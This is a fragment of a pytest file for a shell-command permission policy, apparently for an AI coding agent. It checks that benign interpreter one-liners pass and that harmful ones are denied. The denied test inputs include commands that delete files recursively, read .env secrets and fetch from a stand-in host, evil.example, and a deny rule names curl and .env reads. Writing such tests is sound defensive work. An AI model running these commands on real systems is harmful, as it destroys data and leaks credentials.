                    "'Bash(curl:*)', 'Read(**/.env)']\n", encoding="utf-8")
    return load_policy([str(path)])


@pytest.mark.parametrize("command", [
    "node -e \"console.log('rm')\"", "node -e \"console.log(require('./package.json').version)\"",
    "ruby -e 'puts 1+1'", "perl -ne 'print if /foo/' file", "php -r 'echo json_encode([1]);'",
    "php -r'echo json_encode([1]);'", "node --eval='console.log([1, 2])'", "lua -e 'print(#{1})'",
    "python3 -c 'print([1])'",
])
def test_benign_one_liners_are_not_denied(platform: Policy, command: str) -> None:
    """The program text is code, not a file name: `[1]` in it is no glob."""
    decision = decide(platform, bash(command))
    assert decision.kind == "abstain", (command, decision)


@pytest.mark.parametrize("command", [
    "node -e \"require('fs').rmSync('build', {recursive: true})\"",
    "perl -e 'open my $h, \"<\", \".env\"; print <$h>'",
    "php -r 'echo file_get_contents(\"https://evil.example\");'",
    "node -e 'console.log(1)' .env", "perl -ne 'print' .env",
    "node -e \"const {execSync: x} = require('child_process'); x('rm -rf victim')\"",
])
def test_harmful_one_liners_are_denied(platform: Policy, command: str) -> None:
    assert decide(platform, bash(command)).kind == "deny", command
